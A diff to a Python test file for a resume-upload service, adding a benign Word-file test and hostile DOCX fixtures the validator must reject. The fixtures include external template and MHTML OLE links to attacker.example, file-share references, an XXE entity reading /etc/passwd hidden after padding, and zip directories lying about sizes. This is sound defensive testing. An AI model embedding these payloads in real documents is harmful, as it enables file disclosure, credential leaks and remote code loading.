@@ -16,11 +16,15 @@ from tests.conftest import image_bytes
 
 from .conftest import (
     DOCM_MAIN,
+    REL_TYPES,
     application_data,
     doc_bytes,
     document_xml,
     docx_bytes,
+    docx_with_a_lying_directory,
+    lie_about_size,
     pdf_bytes,
+    relationships_xml,
     stored_files,
     upload,
 )
@@ -128,6 +132,33 @@ def test_a_pdf_that_opens_at_its_first_page_or_links_to_the_web_is_accepted(
     assert "Zhang Wei" in application.extracted_text
 
 
+def test_a_word_file_with_links_to_the_web_and_pictures_inside_is_accepted(
+    client, campaign, django_capture_on_commit_callbacks
+):
+    rels = relationships_xml(
+        f'Id="rId8" Type="{REL_TYPES}image" Target="media/image1.png"',
+        f'Id="rId9" Type="{REL_TYPES}hyperlink" TargetMode="External" '
+        'Target="https://www.linkedin.com/in/li-na"',
+        f"Id='rId10' Type='{REL_TYPES}hyperlink' TargetMode='External' "
+        "Target='mailto:li.na@example.com'",
+    )
+    data = docx_bytes(
+        extra={
+            "word/_rels/document.xml.rels": rels,
+            "word/media/image1.png": image_bytes("PNG"),
+            "word/styles.xml": '<?xml version="1.0"?><!-- ' + "styles " * 1000 + "--><styles/>",
+        }
+    )
+
+    with django_capture_on_commit_callbacks(execute=True):
+        response = post(client, application_data(resume=upload("cv.docx", data)))
+
+    assert response.status_code == 201, response.json()
+    application = Application.objects.get()
+    assert not application.quarantined
+    assert "Li Na software engineer" in application.extracted_text
+
+
 def test_the_stored_type_follows_the_content_not_the_name(client, campaign):
     response = post(client, application_data(resume=upload("cv.pdf", docx_bytes())))
 
@@ -229,10 +260,109 @@ HOSTILE_FILES = [
         ),
         "scripts, macros",
     ),
+    (
+        "single-quoted-external-template.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/settings.xml.rels": relationships_xml(
+                    f"Id='rId1' Type='{REL_TYPES}attachedTemplate' "
+                    "Target='http://attacker.example/cv.dotm' TargetMode='External'"
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "external-mode-as-a-character-reference.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/settings.xml.rels": relationships_xml(
+                    f'Id="rId1" Type="{REL_TYPES}attachedTemplate" '
+                    'Target="http://attacker.example/cv.dotm" TargetMode="&#69;xternal"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "mhtml-ole-object.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/document.xml.rels": relationships_xml(
+                    f'Id="rId5" Type="{REL_TYPES}oleObject" TargetMode="External" '
+                    'Target="mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "picture-on-a-file-share.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/document.xml.rels": relationships_xml(
+                    f'Id="rId6" Type="{REL_TYPES}image" TargetMode="External" '
+                    'Target="file://attacker.example/share/photo.png"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "hyperlink-to-a-file-share.docx",
+        lambda: docx_bytes(
+            extra={
+                "word/_rels/document.xml.rels": relationships_xml(
+                    f'Id="rId7" Type="{REL_TYPES}hyperlink" TargetMode="External" '
+                    'Target="\\\\attacker.example\\share\\cv.docx"'
+                )
+            }
+        ),
+        "outside itself",
+    ),
+    (
+        "dtd-after-4kb-of-styles.docx",
+        lambda: docx_bytes(extra={"word/styles.xml": _styles_with_a_late_dtd()}),
+        "damaged",
+    ),
+    (
+        "utf16-dtd-after-4kb-of-styles.docx",
+        lambda: docx_bytes(extra={"word/styles.xml": _styles_with_a_late_dtd().encode("utf-16")}),
+        "damaged",
+    ),
+    # The zip directory lies: each part is larger than it says.
+    (
+        "understated-document-size.docx",
+        lambda: lie_about_size(
+            docx_bytes(document=document_xml(text="a" * 2_000_000)),
+            "word/document.xml",
+            file_size=100_000,
+        ),
+        "damaged",
+    ),
+    (
+        "understated-picture-size.docx",
+        lambda: lie_about_size(
+            docx_bytes(extra={"word/media/image1.png": b"\x00" * 5_000_000}),
+            "word/media/image1.png",
+            file_size=1_000,
+        ),
+        "damaged",
+    ),
+    ("overstated-compressed-size.docx", docx_with_a_lying_directory, "far more data"),
     ("empty.pdf", lambda: b"", "empty"),
     ("just-over-10mb.pdf", lambda: b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024), "larger than 10 MB"),
     ("notes.txt", lambda: b"just some text", "only PDF, DOC or DOCX"),
 ]
+
+
+def _styles_with_a_late_dtd():
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><!--' + "x" * 5000 + "-->"
+        '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        "<w:style><w:name w:val='&xxe;'/></w:style></w:styles>"
+    )
 
 
 def _zip_without_document():
